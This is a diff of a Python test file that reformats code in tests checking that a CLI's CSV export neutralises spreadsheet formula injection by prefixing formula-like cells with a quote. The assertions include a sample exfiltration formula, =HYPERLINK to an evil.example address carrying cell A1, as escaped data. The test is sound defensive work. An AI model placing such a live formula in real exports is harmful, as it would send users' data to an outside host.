@@ -22,6 +22,7 @@ from tests.contract.cli_runner import cli_on
 def cli(store, monkeypatch, capsys):
     return cli_on(store, monkeypatch, capsys)
 
+
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -41,15 +42,17 @@ def round_trip(store, cli, tmp_path, source) -> tuple[dict, dict]:
     code, _, err = cli("import", tmp_path / "csv", "--format", "csv")
     assert code == 0, err
     assert cli("export", tmp_path / "second.json")[0] == 0
-    return (json.loads((tmp_path / "first.json").read_text("utf-8")),
-            json.loads((tmp_path / "second.json").read_text("utf-8")))
+    return (
+        json.loads((tmp_path / "first.json").read_text("utf-8")),
+        json.loads((tmp_path / "second.json").read_text("utf-8")),
+    )
 
 
 def test_formula_like_text_is_written_with_a_leading_quote(store, cli, tmp_path):
     cli("import", FIXTURES / "formulas.json")
     cli("export", tmp_path / "csv", "--format", "csv")
     written = list(cells(tmp_path / "csv"))
-    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in written
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in written
     assert "'''two quotes" in written and "'@p1" in written and "'\t=1+2\r\nsecond line" in written
     assert not [cell for cell in written if cell.startswith(FORMULA_STARTS)]
 
